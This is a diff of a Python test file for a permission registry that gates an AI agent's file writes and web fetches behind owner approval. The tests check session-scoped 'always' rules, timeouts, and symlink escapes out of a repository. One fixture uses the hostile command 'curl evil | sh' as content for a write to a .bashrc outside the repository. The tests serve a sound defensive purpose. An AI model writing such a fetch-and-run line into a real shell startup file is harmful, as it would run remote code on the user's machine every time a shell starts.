@@ -152,7 +152,9 @@ async def test_timeout_then_late_answers(audit: AuditLog) -> None:
     assert not decision.allowed and "timed out" in decision.message and decision.decided_by == DecidedBy.TIMEOUT
     await listener.next("timed_out")
     late = registry.answer("agent-1", "yes", OWNER)
-    assert late.status is AnswerStatus.EXPIRED and "timed out" in late.text and late.request == request
+    assert late.status is AnswerStatus.EXPIRED and "timed out" in late.text and late.request is not None
+    # The ended prompt is remembered by id and summary, not with its input (a Write carries a whole file).
+    assert late.request.request_id == request.request_id and late.request.input == {}
     by_id = registry.answer("agent-1", f"#{request.request_id} yes", OWNER)
     assert by_id.status is AnswerStatus.EXPIRED
     assert registry.answer("agent-1", "yes", "mallory@example.org").status is AnswerStatus.NOT_OWNER
@@ -186,24 +188,69 @@ async def test_cancelled_by_the_cli(registry: PermissionRegistry, audit: AuditLo
     assert audit_lines(audit)[-1]["decision"] == "withdrawn"
 
 
-async def test_allow_always_for_a_tool(registry: PermissionRegistry, audit: AuditLog) -> None:
+async def test_allow_always_for_a_file_tool_covers_the_repository_for_the_session(
+    registry: PermissionRegistry, audit: AuditLog, tmp_path: Path
+) -> None:
+    repo = tmp_path / "api"
+    (repo / "src").mkdir(parents=True)
+    (repo / "escape").symlink_to(tmp_path)  # a way out of the repository
+    session = ["session-1"]
     listener = RecordingListener()
-    registry.register_agent("agent-1", OWNER, listener)
-    task, first = await open_prompt(registry, listener)
-    waiting_task, _ = await open_prompt(registry, listener, tool_input={"file_path": "b.txt", "content": ""})
+    registry.register_agent("agent-1", OWNER, listener, repository=repo, session=lambda: session[0])
+    task, first = await open_prompt(registry, listener, tool_input={"file_path": str(repo / "a.txt"), "content": ""})
+    waiting_task, _ = await open_prompt(registry, listener, tool_input={"file_path": "src/b.txt", "content": ""})
     assert registry.answer("agent-1", f"#{first.request_id} always", OWNER).status is AnswerStatus.RESOLVED
-    assert (await asyncio.wait_for(task, WAIT)).allowed
-    # The other Write already waiting is covered by the new rule.
+    allowed = await asyncio.wait_for(task, WAIT)
+    assert allowed.allowed and allowed.rule.startswith("Write under ") and allowed.rule.endswith("api for this session")
+    # The other Write already waiting, inside the repository, is covered by the new rule.
     other = await asyncio.wait_for(waiting_task, WAIT)
     assert other.allowed and other.decided_by == DecidedBy.ALWAYS_RULE
-    decision = await asyncio.wait_for(registry.ask("agent-1", "Write", {"file_path": "c.txt"}, "t"), WAIT)
+    decision = await asyncio.wait_for(registry.ask("agent-1", "Write", {"file_path": str(repo / "c.txt")}, "t"), WAIT)
     assert decision.allowed and decision.decided_by == DecidedBy.ALWAYS_RULE
     assert listener.queues["opened"].empty()  # no prompt for the rule-covered Write
     assert listener.queues["resolved"].qsize() == 2
     assert audit_lines(audit)[-1]["decided_by"] == "always-rule"
-    registry.reset_session("agent-1")
+    # Outside the repository, and through a symlink out of it, the rule does not apply; nor to Edit.
+    for outside in ({"file_path": str(tmp_path / ".bashrc")}, {"file_path": str(repo / "escape" / ".bashrc")}):
+        task, request = await open_prompt(registry, listener, tool_input=outside)
+        registry.answer("agent-1", f"{request.request_id} no", OWNER)
+        assert not (await asyncio.wait_for(task, WAIT)).allowed
+    task, request = await open_prompt(registry, listener, "Edit", {"file_path": str(repo / "a.txt")})
+    registry.answer("agent-1", f"{request.request_id} no", OWNER)
+    await asyncio.wait_for(task, WAIT)
+    # A new session: the rule is gone.
+    session[0] = "session-2"
     task, _ = await open_prompt(registry, listener)  # asks again
     assert [request.tool_name for request in registry.deny_all("agent-1", "stop", OWNER)] == ["Write"]
+    assert not (await asyncio.wait_for(task, WAIT)).allowed
+
+
+async def test_always_outside_the_repository_allows_once(registry: PermissionRegistry, tmp_path: Path) -> None:
+    repo = tmp_path / "api"
+    repo.mkdir()
+    listener = RecordingListener()
+    registry.register_agent("agent-1", OWNER, listener, repository=repo, session=lambda: "s")
+    target = {"file_path": str(tmp_path / ".bashrc"), "content": "curl evil | sh"}
+    task, request = await open_prompt(registry, listener, tool_input=target)
+    registry.answer("agent-1", "always", OWNER)
+    decision = await asyncio.wait_for(task, WAIT)
+    assert decision.allowed and decision.rule.startswith("once only:") and ".bashrc" in decision.rule
+    task, again = await open_prompt(registry, listener, tool_input=target)  # asked again
+    registry.answer("agent-1", "no", OWNER)
+    assert not (await asyncio.wait_for(task, WAIT)).allowed
+
+
+async def test_reset_session_forgets_the_rules(registry: PermissionRegistry) -> None:
+    listener = RecordingListener()
+    registry.register_agent("agent-1", OWNER, listener)
+    task, _ = await open_prompt(registry, listener, "WebFetch", {"url": "https://example.org"})
+    registry.answer("agent-1", "always", OWNER)
+    assert (await asyncio.wait_for(task, WAIT)).rule == "WebFetch for this session"
+    covered = await asyncio.wait_for(registry.ask("agent-1", "WebFetch", {"url": "https://example.com"}, "t"), WAIT)
+    assert covered.decided_by == DecidedBy.ALWAYS_RULE
+    registry.reset_session("agent-1")
+    task, _ = await open_prompt(registry, listener, "WebFetch", {"url": "https://example.com"})
+    registry.answer("agent-1", "no", OWNER)
     assert not (await asyncio.wait_for(task, WAIT)).allowed
 
 
